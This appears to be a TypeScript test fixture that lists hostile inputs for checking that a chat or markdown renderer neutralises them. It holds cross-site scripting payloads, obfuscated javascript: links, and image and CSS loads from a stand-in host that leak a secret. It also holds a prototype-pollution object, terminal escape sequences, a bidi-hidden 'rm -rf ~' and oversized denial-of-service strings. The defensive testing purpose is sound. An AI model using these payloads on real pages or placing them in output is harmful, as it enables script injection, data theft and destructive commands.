interface HostileText {
  readonly name: string;
  readonly text: string;
}

const esc = "\u001B";
const evil = "http://evil.test";

/** What a model, a tool or a file may hold. None of it may run, load anything, or pass for the page's own. */
const texts: Readonly<Record<string, string>> = {
  script: "<script>globalThis.pwned = 1</script>",
  image: `<img src="${evil}/x" onerror="globalThis.pwned = 1">`,
  math: '<math><mtext><maction actiontype="statusline" xlink:href="javascript:pwned=1">x</maction></mtext></math>',
  svg: '<svg onload="globalThis.pwned = 1"><script>pwned = 1</script></svg>',
  animated:
    '<svg><animate onbegin="pwned = 1" attributeName="x" dur="1s"/><foreignObject><body onload="pwned = 1"/></foreignObject></svg>',
  details:
    '<details open ontoggle="globalThis.pwned = 1">x</details><marquee onstart="pwned = 1">y</marquee>',
  frame: '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  style: `<style>@import url(${evil}/a.css); body { background: url(${evil}/b) }</style>`,
  base: `<base href="${evil}/"><form action="${evil}"><button>Allow once</button></form>`,
  meta: `<meta http-equiv="refresh" content="0; url=${evil}">`,
  links: [
    "[a](javascript:globalThis.pwned=1)",
    "[b](JaVaScRiPt:globalThis.pwned=1)",
    "[c](java\tscript:globalThis.pwned=1)",
    "[d](&#106;avascript:globalThis.pwned=1)",
    "[e](vbscript:x)",
    "[f](data:text/html,<script>pwned=1</script>)",
    "[g](//evil.test)",
    `[https://good.test](${evil})`,
    "[h](http://user:pass@evil.test)",
    "[i](http://еxample.com)",
    "<javascript:globalThis.pwned=1>",
    '<a href="javascript:pwned=1">x</a>',
  ].join("\n\n"),
  pictures: [
    `![secret](${evil}/?secret)`,
    `![r][ref]\n\n[ref]: ${evil}/r.png`,
    `<img src=${evil}/y>`,
    "![d](data:image/svg+xml;base64,PHN2Zy8+)",
  ].join("\n\n"),
  css: `<div style="background: url(${evil}/c)" class="ticket">Allowed by you</div>`,
  ticket: "> **CALLS FOR YOU · 1**\n>\n> [Allow once](/calls/x) — allowed by you",
  bidi: "rm -rf \u202E~ \u2066x\u2069 \u200B\u200D\uFEFF end\u2028line\u2029para",
  combining: `z${"\u0301".repeat(500)}`,
  surrogates: "lone \uFFFD and \u0000 nul",
  terminal: `${esc}]8;;${evil}\u0007link${esc}]8;;\u0007 ${esc}]52;c;cHduZWQ=\u0007 ${esc}]0;title\u0007 ${esc}[2J${esc}[H${esc}[38;2;255;0;0mred${esc}[0m`,
  fence: "```js\nunclosed <script>pwned = 1</script>",
  proto: '{"__proto__": {"pwned": 1}, "constructor": {"prototype": {"pwned": 1}}}',
  stars: "*".repeat(20_000),
  brackets: "[".repeat(20_000),
  ticks: "`".repeat(20_000),
  angles: "<".repeat(20_000),
  nested: Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  line: "x".repeat(300_000),
  table: `|${"a|".repeat(200)}\n|${"-|".repeat(200)}\n${`|${"b|".repeat(200)}\n`.repeat(20)}`,
};

export const hostileTexts: readonly HostileText[] = Object.entries(texts).map(([name, text]) => ({
  name,
  text,
}));
